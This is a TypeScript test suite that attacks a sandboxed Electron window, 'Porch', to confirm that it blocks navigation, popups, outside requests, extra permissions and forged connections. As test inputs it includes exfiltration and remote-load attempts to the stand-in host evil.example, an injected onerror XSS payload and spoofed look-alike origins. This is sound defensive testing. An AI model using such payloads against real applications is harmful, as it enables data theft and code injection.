/**
 * The desktop window attacked, in a real Chromium through the double of electron: the real shell, the real preload (built
 * here), the real API. The page is a bare one, so that only the shell stands between it and the gate.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import type { IpcMain, Protocol, Screen, Session } from 'electron'
import type { Page } from 'playwright-core'
import { build } from 'vite'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { readPage } from '../../electron/console/files.ts'
import { registerScheme, servePage, START_PAGE } from '../../electron/shell/page.ts'
import { apiPeers } from '../../electron/console/peer.ts'
import { connectPages } from '../../electron/shell/ports.ts'
import { denyPermissions, openWindow } from '../../electron/shell/window.ts'
import { record } from '../electron/console/records.ts'
import { world } from '../electron/console/world.ts'
import { BrowserWindow, desktop, ipcMain, protocol, screen, session } from '../fakes/electron.ts'

vi.mock('electron', () => import('../fakes/electron.ts'))

let folder: string
let window: BrowserWindow
let page: Page
let parts: Awaited<ReturnType<typeof world>>

/** What the renderer's client does: asks the preload for a port, then speaks oRPC's messages over it. */
const PAGE_SCRIPT = `
  globalThis.gate = null
  globalThis.answers = []
  globalThis.evaluated = (() => { try { return eval('true') } catch { return false } })()
  globalThis.wantPort = () => new Promise((resolve) => {
    const listen = (event) => {
      if (event.source !== window || event.data !== 'porch:port') return
      removeEventListener('message', listen)
      gate = event.ports[0]
      gate.onmessage = ({ data }) => answers.push(data)
      resolve(true)
    }
    addEventListener('message', listen)
    postMessage('porch:want-port', '*')
  })
  globalThis.call = (id, path, json) => gate.postMessage(JSON.stringify({ i: id, p: { u: path, b: { json } } }))
  globalThis.answer = async (id) => {
    for (;;) {
      const found = answers.map((each) => JSON.parse(each)).find(({ i, t }) => i === id && t === undefined)
      if (found) return found.p
      await new Promise((resolve) => setTimeout(resolve, 10))
    }
  }
`

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'porch-window-'))
  const root = resolve(import.meta.dirname, '../..')
  await build({ configFile: join(root, 'build/vite.preload.ts'), logLevel: 'silent', build: { outDir: folder } })
  await writeFile(join(folder, 'index.html'), '<!doctype html><title>Porch</title><script>globalThis.inline = true</script><script src="/page.js"></script><body>console</body>')
  await writeFile(join(folder, 'page.js'), PAGE_SCRIPT)
  parts = await world()
  registerScheme(protocol as unknown as Protocol)
  servePage(protocol as unknown as Protocol, await readPage(folder))
  denyPermissions(session.defaultSession as unknown as Session)
  let opened: BrowserWindow | null = null
  connectPages(ipcMain as unknown as IpcMain, 'porch:connect', () => opened as never, () => Promise.resolve(apiPeers(parts.router)))
  opened = openWindow({ preload: join(folder, 'preload.cjs'), boundsFile: join(folder, 'window.json'), dark: true, screen: screen as unknown as Screen, devTools: false }) as unknown as BrowserWindow
  window = opened
  await window.loadURL(START_PAGE)
  page = await window.page
})
afterAll(async () => {
  await window.close()
  await desktop.close()
  await rm(folder, { recursive: true })
})

/** The page's policy forbids the evaluation by which Playwright would wait inside it. */
const until = (condition: string) => expect.poll(() => page.evaluate(condition)).toBe(true)

const fresh = async () => {
  await window.loadURL(START_PAGE)
  await until('typeof globalThis.wantPort === "function"')
  await page.evaluate('wantPort()')
}

describe('the window', () => {
  test('is sandboxed, isolated, without Node, and dark before its first paint', () => {
    expect(window.options.webPreferences).toEqual({
      preload: join(folder, 'preload.cjs'), sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false, webSecurity: true, webviewTag: false, navigateOnDragDrop: false, spellcheck: false, devTools: false,
    })
    expect([window.options.backgroundColor, window.options.show, window.visible]).toEqual(['#121316', false, true])
    expect(protocol.schemes).toEqual([{ scheme: 'porch', privileges: { standard: true, secure: true, supportFetchAPI: true, codeCache: true } }])
  })

  test('hands the page a port and nothing else', async () => {
    await fresh()
    expect(await page.evaluate('[typeof require, typeof process, typeof module, typeof ipcRenderer, typeof __toMain]')).toEqual(new Array(5).fill('undefined'))
    await page.evaluate(`call('1', '/state/get')`)
    expect(await page.evaluate(`answer('1')`)).toMatchObject({ b: { json: { hostname: 'mx.shop.example' } } })
  })

  test('streams over the port, and forgets a page that is gone', async () => {
    await fresh()
    await page.evaluate(`call('7', '/sessions/live')`)
    await until('answers.length >= 2')
    expect(parts.hub.subscribers()).toBe(1)
    parts.hub.publish(record({ id: 'seen', ehlo: '<img src=x onerror=alert(1)>' }), false)
    await until(`answers.some((each) => each.includes('"seen"'))`)
    await fresh()
    await expect.poll(() => parts.hub.subscribers()).toBe(0)
  })

  test('a page that asks again loses its old connection', async () => {
    await fresh()
    await page.evaluate(`call('7', '/sessions/live')`)
    await until('answers.length >= 2')
    await page.evaluate('wantPort()')
    await expect.poll(() => parts.hub.subscribers()).toBe(0)
    await page.evaluate(`call('8', '/state/get')`)
    expect(await page.evaluate(`answer('8')`)).toMatchObject({ b: { json: { version: '0.1.0' } } })
  })

  test('a page that hangs is hung up on', async () => {
    await fresh()
    await page.evaluate(`call('7', '/sessions/live')`)
    await until('answers.length >= 2')
    window.webContents.emit('unresponsive')
    await expect.poll(() => parts.hub.subscribers()).toBe(0)
  })
})

describe('the page stays where it is', () => {
  test.each([
    `location.href = 'https://evil.example/'`,
    `location.href = 'porch://console/trouble'.replace('porch://console', location.origin)`,
    `location.replace('data:text/html,evil')`,
    `document.body.insertAdjacentHTML('beforeend', '<a id=leave href="https://evil.example/">x</a>'); document.getElementById('leave').click()`,
    `document.body.insertAdjacentHTML('beforeend', '<form id=f action="https://evil.example/"></form>'); document.getElementById('f').submit()`,
  ])('%s', async (script) => {
    await fresh()
    const here = page.url()
    await page.evaluate(script).catch(() => undefined)
    await page.evaluate(`call('1', '/state/get')`)
    await page.evaluate(`answer('1')`)
    expect([page.url(), window.refusedRequests]).toEqual([here, []])
  })

  test('opens no window', async () => {
    await fresh()
    expect(window.webContents.openHandler({ url: 'https://evil.example/' })).toEqual({ action: 'deny' })
    await page.evaluate(`void window.open('about:blank')`)
    await expect.poll(() => [window.popups.length, page.context().pages().length]).toEqual([1, 1])
  })

  test('loads, sends and frames nothing from outside', async () => {
    await fresh()
    const tries = [
      `fetch('https://evil.example/?leak=1')`,
      `new Promise((ok, no) => { const image = new Image(); image.onload = ok; image.onerror = no; image.src = 'https://evil.example/x.png' })`,
      `new Promise((ok, no) => { const script = document.createElement('script'); script.onload = ok; script.onerror = no; script.src = 'https://evil.example/x.js'; document.head.append(script) })`,
      `new Promise((ok, no) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = ok; socket.onerror = no })`,
      `new Promise((ok, no) => { const script = document.createElement('script'); script.textContent = 'globalThis.ran = 1'; document.head.append(script); globalThis.ran ? ok() : no() })`,
    ]
    for (const script of tries) expect([script, await page.evaluate(script).then(() => 'worked', () => 'refused')]).toEqual([script, 'refused'])
    expect(await page.evaluate('[typeof inline, evaluated]')).toEqual(['undefined', false])
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>')`)
    await page.evaluate(`call('1', '/state/get')`)
    await page.evaluate(`answer('1')`)
    expect(window.refusedRequests).toEqual([])
  })

  test('is granted nothing but copying', () => {
    const { request, check, device } = session.defaultSession
    const asked = (permission: string, url: string) => {
      let granted: boolean | null = null
      request?.(null, permission, (answer) => (granted = answer), { requestingUrl: url })
      return granted
    }
    for (const permission of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'fileSystem']) {
      expect([permission, asked(permission, START_PAGE), check?.(null, permission, 'porch://console/')]).toEqual([permission, false, false])
    }
    expect([asked('clipboard-sanitized-write', START_PAGE), check?.(null, 'clipboard-sanitized-write', 'porch://console/')]).toEqual([true, true])
    expect([asked('clipboard-sanitized-write', 'https://evil.example/'), asked('clipboard-sanitized-write', 'porch://console.evil.example/')]).toEqual([false, false])
    expect(device?.()).toBe(false)
  })
})

describe('who asks for a connection is checked', () => {
  const main = () => window.webContents.mainFrame
  test.each([
    ['a frame inside the page', () => ({ sender: window.webContents, senderFrame: { frameTreeNodeId: 9, parent: main(), url: START_PAGE } })],
    ['a page elsewhere', () => ({ sender: window.webContents, senderFrame: { ...main(), url: 'https://evil.example/' } })],
    ['a page whose address only begins alike', () => ({ sender: window.webContents, senderFrame: { ...main(), url: 'porch://console.evil.example/' } })],
    ['another window', () => ({ sender: {}, senderFrame: main() })],
    ['a frame that is gone', () => ({ sender: window.webContents, senderFrame: null })],
  ])('%s is refused', async (_who, event) => {
    await fresh()
    const port = desktop.forge('porch:connect', event())
    expect(port.closed).toBe(true)
    // And the page's own connection is not lost by it.
    await page.evaluate(`call('1', '/state/get')`)
    expect(await page.evaluate(`answer('1')`)).toMatchObject({ b: { json: { version: '0.1.0' } } })
  })

  test('hostile messages on the port are dropped', async () => {
    await fresh()
    await page.evaluate(`for (const message of [null, 5, {}, [], '', '{', '{"i":1}', '{"i":1,"p":{"u":5}}', { i: 1, p: { u: '/state/get' } }, 'x'.repeat(400000), '{"i":"1","p":{"u":"http://["}}']) gate.postMessage(message)`)
    await page.evaluate(`call('9', '/state/get')`)
    expect(await page.evaluate(`answer('9')`)).toMatchObject({ b: { json: { version: '0.1.0' } } })
    expect(parts.errors).toEqual([])
  })
})
